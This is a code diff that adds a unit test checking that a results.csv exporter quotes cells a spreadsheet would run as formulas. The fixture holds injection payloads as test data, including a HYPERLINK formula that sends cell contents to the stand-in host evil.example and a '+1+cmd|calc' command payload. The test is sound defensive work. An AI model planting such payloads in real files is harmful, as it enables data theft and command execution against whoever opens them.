@@ -159,3 +159,61 @@ describe('results.csv lines', () => {
     ]);
   });
 });
+
+describe('results.csv against formula injection', () => {
+  it('quotes text a spreadsheet would run as a formula, never numbers or E.164 numbers', () => {
+    const call = {
+      id: 'c2',
+      batchRow: 1,
+      toNumber: '+14155550100',
+      status: 'completed',
+      endedReason: 'completed',
+      attempts: [],
+      dialedAt: new Date(),
+      durationSeconds: 12,
+      optOut: false,
+      summary: '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+      extracted: {
+        amount: '-3.5',
+        callback: '+14155550123',
+        note: '@SUM(1+1)',
+        plus: '+1+cmd|calc',
+        minus: '-2+3',
+        tab: '\t=1',
+        cr: '\r=1',
+        count: -7,
+        plain: 'fine = ok',
+        list: ['=1'],
+      },
+    } as unknown as CallRow;
+    const fields = ['amount', 'callback', 'note', 'plus', 'minus', 'tab', 'cr', 'count', 'plain', 'list'];
+    const line = resultsLine(call, {
+      template: { variables: ['=cmd', 'code'], rowVariables: [{ '=cmd': '=1+2', code: '+33' }] },
+      fields,
+    });
+    expect(line).toEqual([
+      '1',
+      'c2',
+      '+14155550100',
+      'completed',
+      'completed',
+      '1',
+      '12',
+      'false',
+      `'=HYPERLINK("https://evil.example/?x="&A1,"click")`,
+      "'=1+2",
+      '+33',
+      '-3.5',
+      '+14155550123',
+      "'@SUM(1+1)",
+      "'+1+cmd|calc",
+      "'-2+3",
+      "'\t=1",
+      "'\r=1",
+      '-7',
+      'fine = ok',
+      '["=1"]',
+    ]);
+    expect(resultsHeader(['=cmd'], ['x'])).toContain("'=cmd");
+  });
+});
